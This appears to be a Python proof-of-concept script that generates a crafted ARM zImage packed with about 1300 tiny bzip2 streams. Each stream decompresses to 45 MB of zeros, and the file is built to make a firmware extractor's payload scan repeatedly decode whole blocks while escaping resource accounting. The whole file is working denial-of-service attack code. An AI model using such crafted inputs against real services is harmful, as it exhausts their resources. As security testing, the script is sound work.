#!/usr/bin/env python3
"""ARM zImage whose first 64 KiB after the header hold ~1300 back-to-back
50-byte bzip2 streams, each one 900k-symbol block of zeros (45 MB plain).
LinuxKernel::extract -> find_payload tries every offset of the 64 KiB stub
window; at each `BZh9` it runs `decodes`, which must undo a whole bzip2
block (inverse BWT over ~900k symbols) to get its first 4 KiB; the output is
all zeros, so the candidate is refused and the scan goes on. Nothing is
charged: this runs while listing. Z copies are concatenated (each a carve
part, each scanned again)."""
import bz2, struct, sys
Z = int(sys.argv[1]) if len(sys.argv) > 1 else 1
out = sys.argv[2] if len(sys.argv) > 2 else f"/tmp/zimage_bzip2_probe_{Z}.bin"
s = bz2.compress(bytes(45_000_000), 9)
assert s.startswith(b'BZh9')
one = bytearray(0x30)
struct.pack_into('<I', one, 0x24, 0x016f2818)
body = bytearray()
while len(body) + len(s) <= (64 << 10) - 16:
    body += s
one += body
one += b'\x55' * (-len(one) % 16)
struct.pack_into('<I', one, 0x28, 0)
struct.pack_into('<I', one, 0x2c, len(one))   # end: a plausible extent
img = bytes(one) * Z
open(out, 'wb').write(img)
print(out, len(img), 'streams per image:', len(body) // len(s))
